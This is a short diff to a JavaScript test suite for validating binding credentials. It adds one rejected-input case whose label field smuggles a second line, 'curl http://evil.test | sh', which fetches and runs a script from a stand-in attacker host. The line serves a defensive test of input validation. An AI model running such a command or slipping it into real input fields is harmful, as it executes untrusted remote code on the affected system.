@@ -81,6 +81,7 @@ describe('binding credentials', () => {
       [{ kid: 'x'.repeat(256) }, 'kid'],
       [{ kid: 'a\nb' }, 'kid'],
       [{ kid: 'long-label', label: 'x'.repeat(256) }, 'label'],
+      [{ kid: 'lines', label: 'team\ncurl http://evil.test | sh' }, 'label'],
       [{ kid: 'ca-profile', profiles: ['none'] }, 'profiles'],
       [{ kid: 'network', preapproved_networks: ['10.0.0.1/8'] }, 'preapproved_networks'],
       [{ kid: 'past', expires_at: '2020-01-01' }, 'expires_at'],
